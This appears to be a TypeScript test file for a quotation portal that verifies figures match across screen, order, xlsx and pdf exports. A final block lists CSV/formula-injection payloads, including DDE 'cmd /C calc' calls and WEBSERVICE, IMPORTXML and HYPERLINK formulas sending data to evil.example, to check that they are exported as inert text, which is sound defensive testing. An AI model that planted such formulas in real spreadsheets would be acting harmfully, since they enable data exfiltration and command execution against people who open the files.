import {
  addSelection,
  exportDesignOrder,
  generateOrder,
  getDesignOrder,
  getOrderMargin,
  getQuotation,
  getSelection,
  quotationTerms,
  saveQuotation,
  saveSelection,
  type DesignLine,
  type DesignOrder,
  type QuotationHead,
} from '@portal/contract/design-order';
import { amountInWords, marginShare, marginShareText, totalsWithFees } from '@portal/engines/pricing';
import { formatYuan } from '@portal/units';
import { pathOf, type Call } from '@portal/client';
import { manySkus } from '@portal/server/testkit/goods';
import { anInstaller } from '@portal/server/testkit/people';
import { openTestPortal, type TestPortal } from '@portal/server/testkit/portal';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pdfWords } from '@portal/server/testkit/pdf-words';
import { changeListCheck } from '../check/list-check.ts';
import { quotationDocument } from './quotation-document.ts';
import { quotationOf } from './quotation.ts';
import render from './render-worker.ts';

let portal: TestPortal;
beforeAll(async () => void (portal = await openTestPortal()));
afterAll(() => portal.close());

interface Line {
  price: number | null;
  rate?: number;
  ratePrice?: number;
  quantity: number;
  spuName?: string;
  skuType?: 0 | 2;
  unit?: string;
  skuDesc?: string;
}
interface Made {
  order: DesignOrder;
  owner: Awaited<ReturnType<typeof anInstaller>>;
  call: Call;
  cookie: string;
  /** What the list showed before it became an order. */
  screen: DesignOrder['totals'];
}

const HEAD: QuotationHead = {
  projectName: '王府小区',
  customerName: '王府物业',
  customerContact: '',
  customerPhone: '',
  contactName: '李工',
  contactPhone: '0571-88888888',
  validityDays: 15,
  ...quotationTerms,
  taxIncluded: true,
  notes: '',
};
const groupOf = ({ productCategory }: DesignLine): string => productCategory.split('>')[0] ?? '';
/** Place of the first line of its group. */
const firstOf = ({ lines }: DesignOrder, line: DesignLine): number => lines.findIndex((other) => groupOf(other) === groupOf(line));

let keys = 0;
/** An order made of lines the way a person makes it: add, edit, generate. */
async function anOrder(lines: readonly Line[], head: { name?: string; remark?: string } = {}): Promise<Made> {
  const owner = await anInstaller(portal.database);
  const { accountNo } = owner;
  const call: Call = await portal.as(accountNo);
  const models = await manySkus(
    portal.database,
    lines.map(({ price, skuType = 0, spuName, unit, skuDesc = '' }) => ({
      price,
      skuType,
      skuDesc,
      ...(unit === undefined ? {} : { unit }),
      ...(spuName === undefined ? {} : { spuName }),
    })),
  );
  const requested = new Map(models.flatMap(({ skuNo }, at) => (lines[at] === undefined ? [] : [[skuNo, lines[at]] as const])));
  const { revision } = await call(addSelection, {
    body: { productList: [...requested.keys()].map((skuNo) => ({ skuNo, quantity: 1 })) },
    idempotencyKey: `q-${++keys}`,
  });
  const claims = [...requested].map(([skuNo, { rate, ratePrice, quantity }]) => ({ skuNo, rate: rate ?? 100, ratePrice: ratePrice ?? null, quantity }));
  await call(saveSelection, { body: { revision, editor: 'page', lines: claims } });
  const shown = await call(getSelection);
  const id = await call(generateOrder, { body: { name: head.name ?? '王府小区', remark: head.remark ?? '', isWhole: true }, idempotencyKey: `q-${++keys}` });
  return {
    owner,
    order: await call(getDesignOrder, { params: { id } }),
    call,
    cookie: await portal.cookieOf(accountNo),
    screen: totalsWithFees(shown.lines, []),
  };
}

interface ExportRequest {
  format: 'xlsx' | 'pdf';
  kind?: 'customer' | 'internal';
  check?: '1';
}

async function exported({ order, cookie }: Made, { format, kind, check }: ExportRequest) {
  const response = await portal.portal.http.inject({
    method: 'GET',
    url: pathOf(exportDesignOrder, { params: { id: order.id }, query: { format, kind, check, atCostMeant: '1' } }),
    headers: { cookie },
  });
  expect(response.statusCode).toBe(200);
  return { bytes: new Uint8Array(response.rawPayload), headers: response.headers };
}

/** The worksheet as its reader sees it: lines by their column's head, the cell beside a label, and all cells. */
async function sheetOf(made: Made, kind: 'customer' | 'internal' = 'customer') {
  const { bytes } = await exported(made, { format: 'xlsx', kind });
  const rows = (await readXlsx(bytes)).sheets[0]?.rows ?? [];
  const top = rows.findIndex((row) => row[0] === '序号');
  const heads = rows[top]?.map(String) ?? [];
  const lines = rows.slice(top + 1).filter((row) => typeof row[0] === 'number');
  const column = (head: string) => lines.map((row) => row[heads.indexOf(head)]);
  const beside = (label: RegExp): unknown[] =>
    rows.filter((row) => row.some((cell) => label.test(String(cell)))).map((row) => row.findLast((cell) => typeof cell === 'number'));
  return { bytes, rows, heads, lines, column, beside, words: rows.flat().map(String) };
}

describe('screen, order, xlsx and pdf', () => {
  it('say the same figures for any list of lines', async () => {
    const rate = fc.integer({ min: 0, max: 99_999 }).map((points) => points / 100);
    // as dear as 25 lines may be and still be added up: dear ones few, cheap ones up to 9999
    const [dear, cheap] = [
      { price: fc.constantFrom(9_999_999.99, 1_234_567.89), quantity: fc.integer({ min: 1, max: 99 }), rate },
      {
        price: fc.oneof(
          { weight: 8, arbitrary: fc.integer({ min: 1, max: 9_999_999 }).map((fen) => fen / 100) },
          { weight: 1, arbitrary: fc.constantFrom(null, 0, 0.01) },
        ),
        quantity: fc.oneof(fc.integer({ min: 1, max: 99 }), fc.constantFrom(1, 9999)),
        rate,
      },
    ];
    const line: fc.Arbitrary<Line> = fc.oneof(
      { weight: 1, arbitrary: fc.record(dear, { requiredKeys: ['price', 'quantity'] }) },
      { weight: 5, arbitrary: fc.record(cheap, { requiredKeys: ['price', 'quantity'] }) },
    );
    await fc.assert(
      fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 25 }), async (lines) => {
        const made = await anOrder(lines);
        const { order, screen } = made;
        expect(order.totals).toEqual(screen);
        expect({ originalAmount: order.originalAmount, preferential: order.preferential, amount: order.amount }).toEqual({
          originalAmount: screen.originalAmount,
          preferential: screen.preferential,
          amount: screen.amount,
        });
        expect(Math.round((order.originalAmount - order.preferential) * 100)).toBe(Math.round(order.amount * 100));

        // the customer's price of a line is the one on the screen
        const sheet = await sheetOf(made);
        const inGroups = order.lines.toSorted((a, b) => (groupOf(a) === groupOf(b) ? a.sort - b.sort : firstOf(order, a) - firstOf(order, b)));
        expect(sheet.column('金额（元）')).toEqual(inGroups.map((one) => (one.ratePrice === null ? '—' : one.amount)));
        expect(sheet.column('单价（元）')).toEqual(inGroups.map((one) => one.ratePrice ?? '暂无价格'));
        expect(sheet.beside(/^合计/)).toEqual([order.amount]);
        const subtotals = sheet.beside(/ 小计$/).map((sum) => Math.round(Number(sum) * 100));
        expect(subtotals.reduce((sum, part) => sum + part, 0)).toBe(Math.round(order.amount * 100));

        const inside = await sheetOf(made, 'internal');
        expect(inside.column('报价金额')).toEqual(inGroups.map((one) => (one.ratePrice === null ? '—' : one.amount)));
        expect(inside.column('客户价')).toEqual(inGroups.map((one) => one.price ?? '暂无价格'));
        expect(inside.column('折扣率').map((shown) => Math.round(Number(shown) * 10_000))).toEqual(inGroups.map((one) => Math.round(one.rate * 100)));
        expect(inside.rows.find((row) => row[0] === '合计')?.slice(9, 11)).toEqual([order.amount, order.originalAmount]);

        const words = pdfWords((await exported(made, { format: 'pdf' })).bytes).join('');
        expect(words).toContain(`合计（含税）¥${formatYuan(order.amount).text.slice(1)}`);
        expect(words).toContain(`人民币大写${amountInWords(order.amount)}`);
        for (const one of order.lines) if (one.ratePrice !== null) expect(words).toContain(formatYuan(one.amount).text.slice(1));
      }),
      { numRuns: 25, seed: 20_261_121 },
    );
  }, 120_000);

  it('share the margin alike: of what is asked for the lines with a cost, a half going away from zero (PRICE-26)', async () => {
    const made = await anOrder([
      { price: 1002.25, rate: 99.78, ratePrice: 1000, quantity: 1 },
      { price: 500, quantity: 1 },
    ]);
    await portal.database.db.execute(sql`update design_order_line set price = null where design_order_id = ${made.order.id} and sort = 2`);
    const page = await made.call(getOrderMargin, { params: { id: made.order.id } });
    expect(page).toMatchObject({ margin: -2.25, amount: 1000, uncosted: 1 });
    expect(marginShareText(marginShare(page.margin, page.amount))).toBe('-0.23%');

    const sheet = await sheetOf(made, 'internal');
    expect(sheet.column('毛利率')).toEqual([-0.0023, '—']);
    expect(sheet.rows.filter((row) => /^合计| 小计$/.test(String(row[0]))).map((row) => [row[9], row[12]])).toEqual([
      [1500, -0.0023],
      [1500, -0.0023],
    ]);
    const words = pdfWords((await exported(made, { format: 'pdf', kind: 'internal' })).bytes).join('');
    expect(words.match(/-0\.\d+%/g)).toEqual(['-0.23%', '-0.23%', '-0.23%']);
  });

  it('the sheet is a quotation: who to whom, ten columns, figures as numbers, words as text', async () => {
    const made = await anOrder([
      { price: 1234.5, rate: 95.5, quantity: 3, unit: '箱', skuDesc: '六类 · 305 m' },
      { price: null, quantity: 2 },
      { price: 0, skuType: 2, quantity: 1 },
    ]);
    await made.call(saveQuotation, { body: { id: made.order.id, head: { ...HEAD, customerName: '滨江物业', notes: '不含土建' } } });
    const { words, heads, lines, beside } = await sheetOf(made);
    expect(words).toEqual(expect.arrayContaining(['报价单', '滨江物业', '不含土建', '有效期至', '2026-12-06（15 天）']));
    expect(heads).toEqual(['序号', '图片', '产品名称', '品牌', '型号', '参数', '单位', '数量', '单价（元）', '金额（元）']);
    const [first] = made.order.lines;
    expect(lines[0]).toEqual([1, null, first?.productName, '海康威视', first?.productModel, '六类 · 305 m', '箱', 3, 1178.95, 3536.85]);
    expect(lines[1]?.slice(8)).toEqual(['暂无价格', '—']);
    expect(lines[2]?.slice(8)).toEqual([0, 0]);
    expect(words).toEqual(expect.arrayContaining(['人民币大写：叁仟伍佰叁拾陆元捌角伍分', '1 项产品暂无价格，未计入合计，价格另行确认。']));
    expect(beside(/^合计/)).toEqual([3536.85]);
  });

  it('sums are live: every amount, subtotal and total is a formula whose value stands beside it', async () => {
    const made = await anOrder([
      { price: 10, quantity: 3 },
      { price: 20.5, rate: 80, quantity: 2 },
      { price: 99, skuType: 2, quantity: 1 },
    ]);
    for (const [kind, expected] of [
      ['customer', ['ROUND(I11*H11,2)', 'ROUND(I12*H12,2)', 'SUM(J11:J12)', 'ROUND(I15*H15,2)', 'SUM(J15:J15)', 'SUM(J13,J16)']],
      ['internal', ['ROUND(I8*F8,2)', 'ROUND(G8*F8,2)', 'ROUND(J8-K8,2)', 'IF(ROUND(L8+K8,2)=0,0,ROUND(L8/(L8+K8),4))', 'SUM(L8:L9)', 'SUM(L10,L13)']],
    ] as const) {
      const parts = unzipSync((await exported(made, { format: 'xlsx', kind })).bytes);
      const xml = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array(0));
      const formulas = [...xml.matchAll(/<c [^>]*><f>([^<]*)<\/f><v>(-?[\d.]+)<\/v>/g)].map(([, formula]) => formula);
      expect(formulas).toEqual(expect.arrayContaining([...expected]));
      // the total in words of the customer's sheet follows the total (DESIGN-50)
      const words = [...xml.matchAll(/<c [^>]* t="str"><f>"人民币大写："&amp;IF\(ROUND\(ABS\((J\d+)\)[^<]*<\/f><v>([^<]*)<\/v>/g)];
      expect(words.map(([, cell, text]) => [cell, text])).toEqual(kind === 'customer' ? [['J17', '人民币大写：壹佰陆拾壹元捌角整']] : []);
      expect(xml.match(/<f>/g)).toHaveLength(formulas.length + words.length);
    }
  });

  it('prints with its column heads on every sheet of paper, pictures beside the lines', async () => {
    const parts = unzipSync((await exported(await anOrder([{ price: 10, quantity: 3 }]), { format: 'xlsx' })).bytes);
    expect(strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array(0))).toMatch(/_xlnm\.Print_Titles[^>]*>报价单!\$\d+:\$\d+</);
    expect(Object.keys(parts).filter((name) => name.startsWith('xl/media/'))).toHaveLength(1);
    expect(strFromU8(parts['xl/drawings/drawing1.xml'] ?? new Uint8Array(0))).toContain('<xdr:oneCellAnchor>');
  });

  it('the document begins with a cover: who offers what to whom, until when, and no money', async () => {
    const made = await anOrder([{ price: 1234.5, quantity: 1 }]);
    await made.call(saveQuotation, { body: { id: made.order.id, head: { ...HEAD, projectName: '余杭培训楼' } } });
    const { number, day, validUntil, companyName } = await made.call(getQuotation, { params: { id: made.order.id } });
    const [cover = '', first = ''] = pdfWords((await exported(made, { format: 'pdf' })).bytes);
    for (const said of ['报价单', '余杭培训楼', HEAD.customerName, companyName, day, validUntil, number]) expect(cover).toContain(said.replaceAll(' ', ''));
    expect(cover).not.toMatch(/1,234\.50|序号/);
    expect(first).toMatch(/^(?=.*序号).*1,234\.50/s);
  });

  it('is made without terms of payment, delivery and warranty, too', async () => {
    const made = await anOrder([{ price: 10, quantity: 1 }]);
    await made.call(saveQuotation, { body: { id: made.order.id, head: { ...HEAD, payment: '', delivery: '', warranty: '' } } });
    const words = pdfWords((await exported(made, { format: 'pdf' })).bytes).join('');
    expect(words).toContain('税费');
    expect(words).not.toMatch(/付款方式|交货|质保/);
  });

  it('500 lines fit both files, and every page says which of how many it is', async () => {
    const made = await anOrder(Array.from({ length: 500 }, (_, n) => ({ price: n + 0.5, quantity: (n % 9) + 1 })));
    expect((await sheetOf(made)).lines).toHaveLength(500);
    const pages = pdfWords((await exported(made, { format: 'pdf' })).bytes);
    expect(pages.length).toBeGreaterThan(15);
    pages.forEach((words, index) => expect(words).toContain(`第${index + 1}/${pages.length}页`));
    expect(pages[1]).toContain('序号');
    const said = pages.join('');
    expect(made.order.lines.filter((line) => !said.includes(line.productModel))).toEqual([]);
  });

  it('is named in Chinese, without what a file system refuses', async () => {
    const { headers } = await exported(await anOrder([{ price: 1, quantity: 1 }], { name: 'a/b:"王府"..\\' }), { format: 'pdf' });
    expect(headers['content-type']).toBe('application/pdf');
    const name = decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(String(headers['content-disposition']))?.[1] ?? '');
    expect(name).toMatch(/^报价单-a_b__王府_\.\._-BJ20261121-[2-9A-Z]{4}\.pdf$/);
  });

  it('bears the name that stands in it: the customer’s that of the project, the internal one that of the order', async () => {
    const made = await anOrder([{ price: 1, quantity: 1 }], { name: '草稿二' });
    await made.call(saveQuotation, { body: { id: made.order.id, head: { ...HEAD, projectName: '余杭培训楼' } } });
    const nameOf = async (kind: 'customer' | 'internal') =>
      decodeURIComponent(String((await exported(made, { format: 'xlsx', kind })).headers['content-disposition']));
    expect(await nameOf('customer')).toContain('报价单-余杭培训楼-');
    expect(await nameOf('internal')).toContain('内部明细-草稿二-');
  });

  it('says in a demo that goods and prices are invented', async () => {
    const made = await anOrder([{ price: 1, quantity: 1 }]);
    const quotation = await made.call(getQuotation, { params: { id: made.order.id } });
    const paper = quotationOf(made.order, quotation, { demo: true, safetyNotes: [] });
    expect(pdfWords(await render({ kind: 'customer', paper, logo: null, photographs: new Map(), format: 'pdf' })).join('')).toContain('演示数据');
    const [sheet] = (await readXlsx(await render({ kind: 'customer', paper, logo: null, photographs: new Map(), format: 'xlsx' }))).sheets;
    expect(sheet?.rows.flat()).toContainEqual(expect.stringContaining('演示数据'));
  });

  it('names the customer first even where nobody is named yet, and the two parties in bold, whatever else is left out', async () => {
    const made = await anOrder([{ price: 1, quantity: 1 }]);
    const quotation = await made.call(getQuotation, { params: { id: made.order.id } });
    const head = { ...quotation.head, customerName: '', customerContact: '', customerPhone: '', projectName: '' };
    const paper = quotationOf(made.order, { ...quotation, head, companyName: '海威' }, { demo: false, safetyNotes: [] });
    expect(paper.customer.map(([label, text]) => [label, text])).toEqual([['客户名称', '']]);
    const document = JSON.stringify(quotationDocument(paper, new Map(), null));
    expect([...document.matchAll(/\{"text":"([^"]*)","bold":true\}/g)].slice(0, 2).map(([, text]) => text)).toEqual([' ', '海威']);
  });

  it('does not say that it is a demo where it is none', async () => {
    const made = await anOrder([{ price: 1, quantity: 1 }]);
    expect(pdfWords((await exported(made, { format: 'pdf' })).bytes).join('')).not.toContain('演示数据');
  });

  it('says what recommendations warned of about safety, and nothing else of what they warned of (SIZE-18)', async () => {
    const made = await anOrder([{ price: 1, quantity: 1 }]);
    const note = { scenario: 'scenarioUps', scene: 'UPS 不间断电源', code: 'NO_BATTERY', text: '停电即断电', isSafety: true, beside: [] };
    const notes = [note, { ...note, code: 'SIZE_OFF', text: '尺寸不符', isSafety: false }, { ...note, text: '早已拆掉', beside: ['upsHost'] }];
    const caller = { ...made.owner, userType: 2, boundShopNo: null, surveyPermission: false, sessionHash: '' } as const;
    await portal.database.transaction((db) =>
      changeListCheck({ db, caller, now: portal.clock.now() }, { kind: 'order', id: made.order.id }, (check) => ({ ...check, notes })),
    );
    const words = pdfWords((await exported(made, { format: 'pdf' })).bytes).join('');
    const cells = (await sheetOf(made)).rows.flat().join('');
    for (const said of [words.replaceAll(' ', ''), cells.replaceAll(' ', '')]) {
      expect(said).toContain('安全与规范提示');
      expect(said).toContain('UPS不间断电源：UPS没有配后备电池');
      expect(said).not.toMatch(/尺寸不符|早已拆掉/);
    }
    // dealt with, the customer reads nothing of it
    const ignored = [{ code: 'NO_BATTERY', subject: 'scenarioUps', shortBy: null, reason: '电池另购' }];
    await portal.database.transaction((db) =>
      changeListCheck({ db, caller, now: portal.clock.now() }, { kind: 'order', id: made.order.id }, (check) => ({ ...check, ignored })),
    );
    expect((await sheetOf(made)).rows.flat().join('')).not.toContain('安全与规范提示');
  });

  it('two files at once leave other calls answered meanwhile', async () => {
    const made = await anOrder(Array.from({ length: 200 }, () => ({ price: 9.99, quantity: 2 })));
    const call = await portal.as((await anInstaller(portal.database)).accountNo);
    const ended: string[] = [];
    const file = () => exported(made, { format: 'pdf' }).finally(() => ended.push('file'));
    const other = async () => {
      for (let n = 0; n < 5; n++) await call(getSelection);
      ended.push('calls');
    };
    const [one, two] = await Promise.all([file(), file(), other()]);
    expect(ended).toEqual(['calls', 'file', 'file']);
    expect(one.bytes.length).toBe(two.bytes.length);
  });
});

describe('what a person wrote', () => {
  const PAYLOADS = [
    '=1+1',
    '=HYPERLINK("http://evil.example","点我")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '"=1+1',
    "'=1+1",
    '=1+1\n=2+2',
    ';=1+1',
    ',=1+1',
    '=_xlfn.WEBSERVICE("x")',
    '{=1+1}',
    '%0A=1+1',
    '<f>1+1</f>',
    ']]><c t="str"><f>1+1</f></c>',
    '&#61;1+1',
  ];

  it(`${PAYLOADS.length} formulas in names and remark are text cells, and read back letter by letter`, async () => {
    const made = await anOrder(
      PAYLOADS.map((spuName) => ({ price: 1, quantity: 1, spuName })),
      { name: '=1+1', remark: '@SUM(A1) =cmd' },
    );
    const { bytes, column } = await sheetOf(made);
    expect(column('产品名称')).toEqual(PAYLOADS);
    const parts = unzipSync(bytes);
    const texts = Object.entries(parts).flatMap(([name, part]) => (/\.(xml|rels)$/.test(name) ? [[name, strFromU8(part)] as const] : []));
    expect(texts.length).toBeGreaterThan(5);
    const own = /<f>(?:ROUND\([A-Z]\d+\*[A-Z]\d+,2\)|SUM\([A-Z]\d+(?:[:,][A-Z]\d+)*\)|"人民币大写："&amp;IF\(ROUND\(ABS[^<]*)<\/f>/g;
    expect(texts.filter(([, xml]) => /<f[ >]|<hyperlink|externalLink|ddeLink/i.test(xml.replace(own, ''))).map(([name]) => name)).toEqual([]);
    // a cell with a value is a shared text or a number
    const cells = texts.flatMap(([name, xml]) => (name.includes('worksheets/') ? [...xml.matchAll(/<c [^>]*>(?=<v>)/g)].map(([cell]) => cell) : []));
    expect(cells.length).toBeGreaterThan(PAYLOADS.length * 9);
    expect(cells.filter((cell) => !/ t="s"/.test(cell) && !/^<c r="[A-Z]+\d+" s="\d+">$/.test(cell))).toEqual([]);
    expect(Object.keys(parts).some((name) => /vba|externalLinks|connections/i.test(name))).toBe(false);
  });

  it('letters that no XML holds do not break the file', async () => {
    const made = await anOrder([{ price: 1, quantity: 1, spuName: '坏\u0001字\uFFFE & <b>"' }]);
    expect((await sheetOf(made)).column('产品名称')).toEqual(['坏字 & <b>"']);
    expect(pdfWords((await exported(made, { format: 'pdf' })).bytes).join('')).toContain('<b>');
  });
});
